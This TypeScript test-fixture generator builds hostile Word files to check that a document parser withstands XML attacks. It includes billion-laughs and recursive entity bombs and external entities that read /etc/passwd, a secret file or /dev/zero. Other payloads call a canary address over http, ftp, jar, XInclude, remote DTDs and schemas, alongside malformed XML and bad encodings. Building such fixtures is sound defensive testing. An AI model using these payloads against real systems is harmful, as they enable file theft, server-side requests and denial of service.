import { fileOf, type HostileFile } from '../hostile-file.ts';
import { cvParagraphs, documentOf, makeWord, namespaces, paragraph, relationsOf, rootOf } from '../word-file.ts';

/** Document types by what they try; each is followed by the part’s own XML, in which `&a;` stands. */
function doctypes(canary: string, secretFile: string): Record<string, string> {
  const laughs = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join(
    '',
  );
  const declared = (inside: string) => `<!DOCTYPE w [${inside}]>`;
  return {
    'a billion laughs': declared(`<!ENTITY l0 "ha">${laughs}<!ENTITY a "&l9;">`),
    'one long laugh': declared(`<!ENTITY a "${'ha'.repeat(200_000)}">`),
    'an entity of itself': declared('<!ENTITY a "&a;">'),
    'two entities of each other': declared('<!ENTITY a "&b;"><!ENTITY b "&a;">'),
    'a file of this machine': declared(`<!ENTITY a SYSTEM "file://${secretFile}">`),
    'the passwords of this machine': declared('<!ENTITY a SYSTEM "file:///etc/passwd">'),
    'a device that never ends': declared('<!ENTITY a SYSTEM "file:///dev/zero">'),
    'an address': declared(`<!ENTITY a SYSTEM "${canary}/xxe">`),
    'an address by ftp': declared(`<!ENTITY a SYSTEM "${canary.replace('http', 'ftp')}/xxe">`),
    'a parameter from an address': declared(`<!ENTITY % p SYSTEM "${canary}/p.dtd"> %p;<!ENTITY a "x">`),
    'a definition at an address': `<!DOCTYPE w SYSTEM "${canary}/w.dtd">`,
    'a public definition': `<!DOCTYPE w PUBLIC "-//W3C//DTD" "${canary}/w.dtd">`,
    'a wrapper of PHP': declared('<!ENTITY a SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">'),
    'a jar': declared(`<!ENTITY a SYSTEM "jar:${canary}/x.jar!/y">`),
    'a type that never ends': '<!DOCTYPE w [<!ENTITY a "',
    'no more than a type': '<!DOCTYPE w>',
  };
}

/** Where the XML stands; each part is asked for by the document. */
const places: Record<string, (head: string, canary: string) => [body: string, parts: Record<string, string>]> = {
  'the document': (head) => [
    '',
    { 'word/document.xml': `${head}${documentOf(cvParagraphs + paragraph('&a;')).split('?>')[1]}` },
  ],
  'the styles': (head) => [cvParagraphs, linked('styles', `${head}<w:styles ${namespaces}>&a;</w:styles>`)],
  'a header': (head) => [cvParagraphs, linked('header', `${head}<w:hdr ${namespaces}>${paragraph('&a;')}</w:hdr>`)],
  'the links': (head) => [
    cvParagraphs,
    { 'word/_rels/document.xml.rels': `${head}${relationsOf([{ type: 'header', target: '&a;' }])}` },
  ],
  'the package’s links': (head) => [
    cvParagraphs,
    { '_rels/.rels': `${head}${relationsOf([{ type: 'officeDocument', target: '&a;' }])}` },
  ],
  'the types': (head) => [cvParagraphs, { '[Content_Types].xml': `${head}<Types>&a;</Types>` }],
};

function linked(type: string, xml: string): Record<string, string> {
  return { [`word/${type}.xml`]: xml, 'word/_rels/document.xml.rels': relationsOf([{ type, target: `${type}.xml` }]) };
}

export function* xmlAttacks(canary: string, secretFile: string): Generator<HostileFile> {
  for (const [what, doctype] of Object.entries(doctypes(canary, secretFile)))
    for (const [where, place] of Object.entries(places)) {
      const [body, parts] = place(`<?xml version="1.0"?>${doctype}`, canary);
      yield fileOf('xml with entities', `${what} in ${where}`, makeWord(body, parts), 'docx');
    }
  for (const [name, xml] of Object.entries(broken(canary)))
    yield fileOf('xml that is wrong', name, makeWord('', { 'word/document.xml': xml }), 'docx');
}

function broken(canary: string): Record<string, string | Uint8Array> {
  const whole = documentOf(cvParagraphs);
  const cut = (share: number) => whole.slice(0, Math.floor(whole.length * share));
  return {
    ...Object.fromEntries([0, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99].map((share) => [`cut at ${share}`, cut(share)])),
    'a style sheet at an address': whole.replace('?>', `?><?xml-stylesheet href="${canary}/x.xsl"?>`),
    'an inclusion': documentOf(
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canary}/x"/>${cvParagraphs}`,
    ),
    'a schema at an address': whole.replace(
      '<w:body',
      `<w:body xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a ${canary}/x.xsd"`,
    ),
    'UTF-16 without a mark': Buffer.from(whole, 'utf16le'),
    'UTF-16 with one': Buffer.from(`\ufeff${whole}`, 'utf16le'),
    'UTF-7': whole.replace('UTF-8', 'UTF-7').replaceAll('<', '+ADw-'),
    'an encoding nobody has': whole.replace('UTF-8', 'x-nobody'),
    'bytes that are no text': Buffer.from(whole.replaceAll('a', '\xff'), 'latin1'),
    'characters that XML has not': whole.replaceAll('Comptable', 'Comp\u0001\u0008\ufffe table'),
    'halves of characters': whole.replaceAll('Comptable', '&#xD800;&#xDFFF;'),
    'characters beyond the last': whole.replaceAll('Comptable', '&#x110000;&#99999999999;'),
    NUL: whole.replaceAll('Comptable', '\0&#0;'),
    'an attribute twice': whole.replaceAll('<w:p>', '<w:p a="1" a="2">'),
    'a prefix of nobody': whole.replaceAll('w:p>', 'zz:p>'),
    'no root': '<?xml version="1.0"?>',
    'two roots': whole + whole,
    'another root': rootOf('styles', ''),
    'comments that never end': whole.replace('<w:body>', '<w:body><!--'),
    'CDATA that never ends': whole.replace('<w:body>', '<w:body><![CDATA['),
    'brackets alone': '<'.repeat(500_000),
    'ampersands alone': documentOf(paragraph('&'.repeat(300_000))),
  };
}
